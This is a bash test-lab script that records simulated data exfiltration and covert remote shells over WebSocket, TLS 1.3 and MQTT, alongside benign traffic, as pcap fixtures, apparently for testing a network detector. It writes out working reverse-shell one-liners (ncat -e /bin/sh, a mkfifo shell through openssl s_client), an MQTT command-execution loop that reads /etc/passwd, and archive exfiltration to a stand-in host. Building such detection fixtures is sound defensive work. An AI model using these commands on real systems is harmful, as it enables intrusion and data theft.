#!/bin/bash
# SPDX-License-Identifier: MIT
# carriers.sh SCENARIO...|all|list: data and shells in carriers that hide them, by packaged programs, between the namespaces of
# ns.sh, recorded at the gateway into tests/replay/<scenario>/input.pcap.
#
# Needs root and (Debian names): tcpdump openssl socat ncat zip python3 python3-websockets mosquitto mosquitto-clients
# curl.
set -eu
export XFL_PREFIX=${XFL_PREFIX:-car}
all=(socket_upload socket_words socket_shell benign_sockets tls13_shell tls13_shell_openssl benign_tls13
    mqtt_file mqtt_words benign_mqtt mqtt_shell mqtt_agent benign_mqtt_home)
# shellcheck source=tests/lab/lab.sh
. "$(dirname "$0")/lab.sh"
far=203.0.113.24

ws() { # mode url [file]
    "${cli[@]}" timeout 30 /usr/bin/python3 "$here/ws_talk.py" "$@" || true
}

ws_server() { # port [mode]
    bg "ws$1" "${srv[@]}" /usr/bin/python3 "$here/ws_talk.py" serve "$far" "$@"
    sleep 1
}

prepare() {
    openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj '/CN=server' -keyout "$dir/tls.key" -out "$dir/tls.crt" 2>/dev/null
    cat "$dir/tls.key" "$dir/tls.crt" >"$dir/tls.pem"
    python3 "$here/customers.py" 1500 >"$dir/customers.csv"
    (cd "$dir" && zip -q -P secret sealed.zip customers.csv)
    head -c 40000 /dev/zero | openssl enc -aes-256-ctr -nosalt -pbkdf2 -k "noise" 2>/dev/null >"$dir/noise"
    { printf '\211PNG\r\n\032\n' && head -c 6000 "$dir/noise"; } >"$dir/picture.png"
}

socket_upload() { # an encrypted archive in binary messages of a WebSocket that compresses
    ws_server 8080
    ws upload "ws://$far:8080/ws" "$dir/sealed.zip"
}
socket_words() { # the same in base64 in texts
    ws_server 8080
    ws words "ws://$far:8080/ws" "$dir/sealed.zip"
}
socket_shell() {
    ws_server 8080 shell
    ws shell "ws://$far:8080/ws"
}
benign_sockets() {
    ws_server 8080 page
    ws page "ws://$far:8080/ws" "$dir/picture.png"
    ws page "ws://$far:8080/plain" "$dir/picture.png"
}

# shellcheck disable=SC2016 # for the shell at the far end
commands='for c in id whoami "uname -a" pwd "ls -l /" "cat /etc/hostname" "ps aux" "ls -la /var" "df" "w"; do echo "$c"; sleep 1.3; done'
tls13_shell() { # a shell that ncat has brought to somebody within TLS 1.3
    bg ncat "${srv[@]}" sh -c "($commands) | ncat --ssl -n -l $far 7443"
    sleep 0.7
    "${cli[@]}" timeout 20 ncat --ssl -n $far 7443 -e /bin/sh || true
}
tls13_shell_openssl() { # /bin/sh -i between a pipe and s_client
    bg sserver "${srv[@]}" sh -c "(sleep 1; $commands) | openssl s_server -quiet -accept $far:8443 -cert $dir/tls.crt -key $dir/tls.key"
    sleep 0.7
    "${cli[@]}" sh -c "mkfifo $dir/s; /bin/sh -i <$dir/s 2>&1 | timeout 18 openssl s_client -quiet -connect $far:8443 >$dir/s" || true
}
benign_tls13() { # a program without a name asks again and again; another is pinged by its server
    bg web "${srv[@]}" openssl s_server -quiet -accept $far:8443 -cert "$dir/tls.crt" -key "$dir/tls.key" -WWW
    bg push "${srv[@]}" sh -c "(sleep 1; for i in 1 2 3 4 5 6 7 8 9 10; do echo ping \$i; sleep 1; done) | socat - OPENSSL-LISTEN:5223,bind=$far,reuseaddr,cert=$dir/tls.pem,verify=0"
    sleep 0.5
    for _ in 1 2 3 4 5; do "${cli[@]}" curl -sk -m 3 -o /dev/null "https://$far:8443/tls.crt" || true; done
    "${cli[@]}" timeout 14 socat "OPENSSL:$far:5223,verify=0" "SYSTEM:while read x y; do echo pong \$y; done" || true
}

broker() { # where
    printf 'user root\nlistener 1883 %s\nallow_anonymous true\n' "$far" >"$dir/mosquitto.conf"
    bg mosquitto "${srv[@]}" mosquitto -c "$dir/mosquitto.conf"
    sleep 0.7
}
mqtt_file() { # an encrypted archive as messages of 8 KiB, and whole
    broker
    split -b 8192 "$dir/sealed.zip" "$dir/piece."
    for p in "$dir"/piece.*; do "${cli[@]}" mosquitto_pub -h $far -t "s/$(basename "$p")" -f "$p" || true; done
    "${cli[@]}" mosquitto_pub -h $far -t s/all -f "$dir/sealed.zip" || true
}
mqtt_words() { # base64, a line a message, on one connection, with a password
    broker
    base64 -w 700 "$dir/sealed.zip" | "${cli[@]}" timeout 20 mosquitto_pub -h $far -u dev7 -P hunter2 -t log/7 -l || true
}
benign_mqtt() { # sensors that tell what they measure, and one with pictures
    broker
    for i in $(seq 40); do
        "${cli[@]}" mosquitto_pub -h $far -i "meter-$((i % 4))" -u meters -P pass -t "plant/$((i % 4))/state" -m "{\"t\":$((20 + i % 5)).4,\"rh\":$((40 + i)),\"on\":true,\"up\":$((i * 977))}" || true
    done
    seq -f '{"power":%g,"volt":230.1,"phase":"a"}' 100 | "${cli[@]}" timeout 10 mosquitto_pub -h $far -t plant/line -l || true
    for _ in 1 2 3 4 5; do "${cli[@]}" mosquitto_pub -h $far -t door/picture -f "$dir/picture.png" || true; done
}

obey() { # topic: runs what comes by it and publishes what it printed, a connection for each answer
    local line
    "${cli[@]}" timeout 16 mosquitto_sub -h $far -i "$1" -t "$1/in" | while read -r line; do
        sh -c "$line" 2>&1 | "${cli[@]}" mosquitto_pub -h $far -t "$1/out" -s || true
    done
}
mqtt_shell() { # a shell of three programs: mosquitto_sub, sh, mosquitto_pub
    broker
    obey node4 &
    pids+=($!)
    sleep 1.5
    local line
    for line in id whoami 'cat /etc/passwd | head -4' 'ls -l /usr'; do
        "${srv[@]}" mosquitto_pub -h $far -t node4/in -m "$line" && sleep 1.5
    done
}
mqtt_agent() { # one connection, JSON and base64 both ways
    broker
    "${cli[@]}" timeout 14 /usr/bin/python3 "$here/mqtt_agent.py" $far 1883 dev/a7 &
    pids+=($!)
    sleep 1.5
    local line
    for line in whoami 'cat /etc/passwd | head -4' 'ls -l /usr'; do
        "${srv[@]}" mosquitto_pub -h $far -t dev/a7/cmd -m "{\"id\": 7, \"cmd\": \"$line\"}" && sleep 1.5
    done
    "${srv[@]}" mosquitto_pub -h $far -t dev/a7/cmd -m "$(printf 'cmd /c dir' | base64)" && sleep 1.5
}
benign_mqtt_home() { # a home: retained descriptions, switches, states, an image of a device's program that comes in
    broker
    local n
    for n in 1 2 3; do
        "${srv[@]}" mosquitto_pub -r -h $far -t "homeassistant/switch/s$n/config" -m "{\"name\":\"Lamp $n\",\"command_topic\":\"home/s$n/set\",\"state_topic\":\"home/s$n/state\",\"device\":{\"identifiers\":[\"s$n\"],\"sw_version\":\"2.4.$n\",\"model\":\"Plug\"}}"
    done
    "${cli[@]}" timeout 14 mosquitto_sub -h $far -i home -t 'homeassistant/#' -t 'home/+/set' -t 'ota/#' >/dev/null &
    pids+=($!)
    sleep 1
    for n in 1 2 3 1 2 3; do
        "${srv[@]}" mosquitto_pub -h $far -t "home/s$n/set" -m "$([ $n = 2 ] && echo OFF || echo '{"state":"ON","type":"set","echo":"dir"}')" && sleep 0.3
        "${cli[@]}" mosquitto_pub -h $far -i "s$n" -t "home/s$n/state" -m '{"state":"ON","power":12.4,"uptime":86021,"hostname":"plug-7","ip":"10.20.1.10","os":"esp-idf 4.4","free":123456}' && sleep 0.5
    done
    { printf '\351\003\002\057' && cat "$dir/noise"; } >"$dir/firmware.bin"
    "${srv[@]}" mosquitto_pub -h $far -t ota/s1 -f "$dir/firmware.bin" && sleep 1
    "${cli[@]}" mosquitto_pub -h $far -i s1 -t home/s1/log -m 'boot: ota ok, 40004 bytes, sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'
}

run_lab "$@"
